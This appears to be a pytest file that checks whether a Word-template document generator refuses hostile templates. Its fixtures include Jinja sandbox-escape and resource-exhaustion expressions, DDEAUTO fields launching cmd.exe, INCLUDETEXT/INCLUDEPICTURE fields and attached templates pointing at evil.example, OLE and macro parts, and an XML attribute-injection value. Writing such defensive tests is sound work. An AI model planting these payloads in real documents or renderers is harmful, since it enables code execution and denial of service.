"""Word templates edited carelessly or maliciously: each ends in a located Chinese error.

Every case is a copy of ``templates/plan.docx`` with something put first in its body
(so it is ``正文第 1 段``) or a package part replaced, saved as ``plan.docx`` in a
folder of its own. Both ``plandocs plan --templates`` and ``plandocs lint`` must
refuse it with status 2, name the file, the place and the reason, write nothing
and leave the template as it was.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

import docx
import pytest

from generator.render.docx.engine import DocxTemplateEngine
from generator.render.docx.errors import TemplateRenderError
from tests.helpers import EXAMPLE, ROOT, copy_example, edit, invoke
from tests.hostile.helpers import snapshot

PLAN = ROOT / "templates" / "plan.docx"
FIRST = "正文第 1 段"
Edit = Callable[[str], str] | bytes


def run(text: str) -> str:
    """A paragraph of one run holding ``text``."""
    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def runs(*texts: str, between: str = "") -> str:
    """One paragraph whose text Word split into several runs (``between`` each)."""
    parts = [f'<w:r><w:t xml:space="preserve">{escape(t)}</w:t></w:r>' for t in texts]
    return f"<w:p>{between.join(parts)}</w:p>"


def field_code(*codes: str) -> str:
    """A complex field whose code Word split over ``codes`` (one w:instrText each)."""
    instructions = "".join(
        f'<w:r><w:instrText xml:space="preserve">{escape(c)}</w:instrText></w:r>' for c in codes
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{instructions}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def first_in_body(*paragraphs: str) -> Callable[[str], str]:
    def insert(xml: str) -> str:
        start = xml.index("<w:body>") + len("<w:body>")
        return xml[:start] + "".join(paragraphs) + xml[start:]

    return insert


def rels(*relationships: str) -> bytes:
    body = "".join(relationships)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{body}</Relationships>"
    ).encode()


def relationship(kind: str, target: str, rid: str = "rIdX") -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationship Id="{rid}" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
    )


def with_document_relationship(extra: str) -> Callable[[str], str]:
    return lambda xml: xml.replace("</Relationships>", f"{extra}</Relationships>")


def macro_enabled(xml: str) -> str:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return xml.replace(main, "application/vnd.ms-word.document.macroEnabled.main+xml").replace(
        "<Default ",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
        1,
    )


def make_variant(folder: Path, edits: dict[str, Edit], source_path: Path = PLAN) -> Path:
    """A bundled template with zip members edited, replaced or added, saved in ``folder``
    under its own name."""
    folder.mkdir(parents=True, exist_ok=True)
    buffer = io.BytesIO()
    with zipfile.ZipFile(source_path) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            change = edits.get(info.filename)
            data = source.read(info)
            if callable(change):
                data = change(data.decode("utf-8")).encode("utf-8")
            elif change is not None:
                data = change
            target.writestr(info.filename, data)
        for member, change in edits.items():
            if member not in source.namelist():
                target.writestr(member, change if isinstance(change, bytes) else change(""))
    path = folder / source_path.name
    path.write_bytes(buffer.getvalue())
    return path


@dataclass(frozen=True)
class Case:
    """A hostile template: what to change in plan.docx, where and what the error says."""

    edits: dict[str, Edit]
    place: str
    fragments: tuple[str, ...] = ()


def body(*paragraphs: str, place: str = FIRST, says: tuple[str, ...] = ()) -> Case:
    return Case({"word/document.xml": first_in_body(*paragraphs)}, place, says)


_SETTINGS_RELS = "word/_rels/settings.xml.rels"
_DOCUMENT_RELS = "word/_rels/document.xml.rels"
_MACRO_RECURSION = (
    "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}"
)
_DOUBLING = (
    "{% set ns = namespace(s='x') %}{% for i in range(64) %}"
    "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}"
)

CASES: dict[str, Case] = {
    # --- CPU and memory ------------------------------------------------------------------
    "nested-huge-range": body(
        run("{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}"),
        says=("超出限制", "range()", "10,000"),
    ),
    "nested-loops-within-range": body(
        run("{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}"),
        says=("循环次数超过上限", "1,000,000"),
    ),
    # Jinja's ** is left-associative: 9**9**9 is (9**9)**9, harmless; this is the bomb.
    "power-tower": body(run("{{ 9 ** (9 ** 9) }}"), says=("乘方", "4,096")),
    "string-multiplication": body(run("{{ 'x' * 10**9 }}"), says=("重复字符串或列表", "1,000,000")),
    "list-multiplication": body(run("{{ [1] * 10**9 }}"), says=("重复字符串或列表", "1,000,000")),
    "concatenation-doubling": body(run(_DOUBLING), says=("连接（~）", "1,000,000")),
    "filter-width": body(run("{{ 'x'|center(10**9) }}"), says=("center 过滤器",)),
    "format-width": body(run("{{ '%999999999d' % 1 }}"), says=("格式化（%）", "宽度")),
    # A plain str's methods are handed out and called without the sandbox's round trip:
    # the size guard and the call count still apply, and format is still the sandbox's.
    "string-method-width": body(run("{{ 'x'.ljust(10**9) }}"), says=("字符串方法 ljust",)),
    "string-method-calls": body(
        run(
            "{% for i in range(10000) %}{% for j in range(11) %}{{ 'x'.strip() }}"
            "{% endfor %}{% endfor %}"
        ),
        says=("调用次数超过上限", "100,000"),
    ),
    "str-format-width": body(run("{{ '{:999999999}'.format(1) }}"), says=("format 格式", "宽度")),
    "str-format-attribute": body(
        run("{{ '{0.__class__}'.format(title) }}"), says=("沙箱", "__class__")
    ),
    "macro-call-bomb": body(run(_MACRO_RECURSION), says=("调用次数超过上限", "100,000")),
    "endless-recursion": body(
        run("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"), says=("递归过深",)
    ),
    # --- the sandbox -----------------------------------------------------------------------
    "class-mro": body(run("{{ ''.__class__.__mro__ }}"), says=("沙箱", "__class__")),
    "function-globals": body(run("{{ title.__init__.__globals__ }}"), says=("沙箱", "__init__")),
    "mro-call": body(run("{{ ''.__class__.mro() }}"), says=("沙箱", "__class__")),
    "cycler-globals": body(run("{{ cycler.__init__.__globals__ }}"), says=("沙箱", "__init__")),
    "list-mutation": body(run("{% set x = [] %}{{ x.append(1) }}"), says=("沙箱", "append")),
    "include-another-part": body(
        run("{% include 'plan.docx:word/footer1.xml' %}"), says=("include",)
    ),
    "undefined-variable": body(run("{{ titel }}"), says=("titel",)),
    "division-by-zero": body(run("{{ 1 / 0 }}"), says=("ZeroDivisionError",)),
    # --- broken tags -------------------------------------------------------------------------
    "for-without-endfor": body(
        run("{%p for x in blocks %}"),
        run("{{ x.text }}"),
        says=("for 标记没有对应的 endfor",),
    ),
    "endif-without-if": body(run("{%p endif %}"), says=("多余的 endif",)),
    "closing-brace-typo": body(run("{{ title }"), says=("“{{ title }”", "没有结束", "}}")),
    "tag-split-across-paragraphs": body(
        run("标题：{{ ti"), run("tle }}"), says=("“{{ ti”", "没有结束")
    ),
    "closer-without-opener": body(run("{ title }}"), says=("前面没有对应的",)),
    "p-tag-with-space": body(run("{% p if title %}"), run("{% p endif %}"), says=("未知的标记 p",)),
    "broken-xml-from-safe": body(run("{{ '<w:p>'|safe }}"), says=("XML 无效",)),
    # An inline if opened in a paragraph and closed in a table cuts the XML apart when false.
    "if-spanning-paragraph-and-table": body(
        run("{% if addressee == '没有这个' %}开始"),
        f"<w:tbl><w:tr><w:tc>{run('结束{% endif %}')}</w:tc></w:tr></w:tbl>",
        says=("XML 无效", "{% if addressee"),
    ),
    # --- dangerous content -------------------------------------------------------------------
    "dde-field": body(
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '&quot;/k calc&quot; "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
        says=("DDEAUTO", "运行其他程序"),
    ),
    "dde-split-over-runs": body(field_code(" DD", "EAUTO c:\\x.exe "), says=("DDEAUTO",)),
    "includetext-field": body(
        field_code(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx" '),
        says=("INCLUDETEXT", "外部文件"),
    ),
    "includepicture-field": body(
        field_code(' INCLUDEPICTURE "http://evil.example/p.png" \\d '), says=("INCLUDEPICTURE",)
    ),
    "nested-field-obfuscation": body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + field_code(" QUOTE 68 68 69 ")[5:-6]
        + '<w:r><w:instrText> "c:\\x.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        says=("嵌套域",),
    ),
    "external-attached-template": Case(
        {_SETTINGS_RELS: rels(relationship("attachedTemplate", "http://evil.example/t.dotm"))},
        _SETTINGS_RELS,
        ("外部的模板", "http://evil.example/t.dotm"),
    ),
    "external-ole-object": Case(
        {_DOCUMENT_RELS: with_document_relationship(relationship("oleObject", "http://e/x.sct"))},
        _DOCUMENT_RELS,
        ("OLE",),
    ),
    "macros": Case(
        {"[Content_Types].xml": macro_enabled, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"},
        "word/vbaProject.bin",
        ("宏", "macroEnabled"),
    ),
    "embedded-object": body(
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Embed" ProgID="Package"/></w:object></w:r></w:p>',
        says=("OLE 对象",),
    ),
    # --- places other than the body --------------------------------------------------------
    "table-cell": Case(
        {"word/document.xml": lambda xml: xml.replace("{{ r.seq }}", "{{ r.seqq }}")},
        "正文表格 1 第 4 行第 1 列",
        ("seqq",),
    ),
    "footer": Case(
        {"word/footer1.xml": lambda xml: xml.replace("</w:ftr>", f"{run('{{ unit }')}</w:ftr>")},
        "页脚（footer1.xml）第 2 段",
        ("没有结束",),
    ),
    "not-a-docx": Case({}, "", ("不是有效的 Word 文档",)),
}


def hostile_template(folder: Path, name: str) -> Path:
    if name == "not-a-docx":  # a .doc (OLE compound file) renamed to .docx
        folder.mkdir(parents=True)
        path = folder / "plan.docx"
        path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
        return path
    return make_variant(folder, CASES[name].edits)


def assert_refused_everywhere(tmp_path: Path, template: Path, case: Case) -> None:
    """plan and lint: status 2, file + place + reason in Chinese, nothing written or changed."""
    folder, out = template.parent, tmp_path / "out"
    before, example = snapshot(folder), snapshot(EXAMPLE)
    for command in (
        ["plan", "--data", str(EXAMPLE), "--templates", str(folder), "--out", str(out)],
        ["lint", str(folder)],
    ):
        code, output = invoke(*command)
        assert code == 2, output
        for expected in ("plan.docx", case.place, *case.fragments):
            assert expected in output, (command[0], output)
        assert not out.exists()
        assert snapshot(folder) == before
    assert snapshot(EXAMPLE) == example


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_template_is_refused(tmp_path: Path, name: str) -> None:
    template = hostile_template(tmp_path / "templates", name)
    assert_refused_everywhere(tmp_path, template, CASES[name])


def test_existing_output_is_left_alone(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "上次的方案.docx").write_bytes(b"earlier run")
    template = hostile_template(tmp_path / "templates", "dde-field")
    before = snapshot(out)
    code, output = invoke(
        "plan", "--data", str(EXAMPLE), "--templates", str(template.parent), "--out", str(out)
    )
    assert code == 2 and "DDEAUTO" in output
    assert snapshot(out) == before


def test_all_problems_of_a_template_are_listed_at_once(tmp_path: Path) -> None:
    template = make_variant(
        tmp_path / "templates",
        {
            "word/document.xml": first_in_body(
                field_code(" DDEAUTO calc "), run("{{ title }"), run("{{ date }")
            ),
            _SETTINGS_RELS: rels(relationship("attachedTemplate", "file://evil/x.dotm")),
        },
    )
    out = tmp_path / "out"
    code, output = invoke(
        "plan", "--data", str(EXAMPLE), "--templates", str(template.parent), "--out", str(out)
    )
    assert code == 2 and not out.exists()
    assert "有 4 个问题" in output
    for expected in ("正文第 1 段", "DDEAUTO", "正文第 2 段", "正文第 3 段", _SETTINGS_RELS):
        assert expected in output


# --- what must keep working ---------------------------------------------------------------


def render_plan_docx(template: Path, data: Path, out: Path) -> docx.document.Document:
    code, output = invoke(
        "plan", "--data", str(data), "--templates", str(template.parent), "--out", str(out)
    )
    assert code == 0, output
    (document,) = (out / "方案").glob("*.docx")
    return docx.Document(str(document))


def test_tag_split_across_runs_is_repaired(tmp_path: Path) -> None:
    """Word splits runs at spelling marks and formatting changes; docxtpl joins them."""
    proofing = '<w:proofErr w:type="spellStart"/>'
    split = runs("签发：{{ si", "gna", "ture }}", between=proofing)
    template = make_variant(tmp_path / "templates", {"word/document.xml": first_in_body(split)})
    document = render_plan_docx(template, EXAMPLE, tmp_path / "out")
    assert document.paragraphs[0].text == "签发：孟州市园林处"


def test_web_hyperlink_is_fine(tmp_path: Path) -> None:
    link = relationship("hyperlink", "https://www.example.gov.cn/", "rIdWeb")
    template = make_variant(
        tmp_path / "templates", {_DOCUMENT_RELS: with_document_relationship(link)}
    )
    DocxTemplateEngine(template)  # no error


def test_jinja_in_values_is_printed_literally(tmp_path: Path) -> None:
    data = copy_example(tmp_path)
    literal = "{{ 7*7 }}{% if true %}真{% endif %}{#注释#}"  # " #" would start a YAML comment
    edit(data / "plan.yaml", "  - 为积极创建全国文明城市", f"  - 为积极{literal}创建全国文明城市")
    document = render_plan_docx(PLAN, data, tmp_path / "out")
    text = "\n".join(p.text for p in document.paragraphs)
    assert f"为积极{literal}创建" in text
    assert "49" not in text


def test_value_in_an_attribute_is_escaped(tmp_path: Path) -> None:
    """A tag Word would never put in an attribute, and a value made to break out of it."""
    template = make_variant(
        tmp_path / "templates",
        {
            "word/document.xml": lambda xml: xml.replace(
                "<w:body>",
                '<w:body><w:p><w:pPr><w:pStyle w:val="{{ signature }}"/></w:pPr></w:p>',
                1,
            )
        },
    )
    data = copy_example(tmp_path)
    hostile = '孟州"/><w:b/><w:x a="&amp;<'
    edit(data / "plan.yaml", "issuer: 孟州市园林处", f"issuer: '{hostile}'")
    out = tmp_path / "out"
    document = render_plan_docx(template, data, out)  # parses: the XML is intact
    style = document.element.body[0].find(".//{*}pStyle")
    assert style.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}val") == hostile
    assert not list(document.element.body[0].iter("{*}b"))


def test_the_engine_reports_places_of_a_header(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("{{ title }}")
    document.sections[0].header.paragraphs[0].text = "{{ unit_name }}"
    path = tmp_path / "header.docx"
    document.save(str(path))
    with pytest.raises(TemplateRenderError, match=re.escape("页眉（header1.xml）第 1 段")):
        DocxTemplateEngine(path).render({"title": "x"})
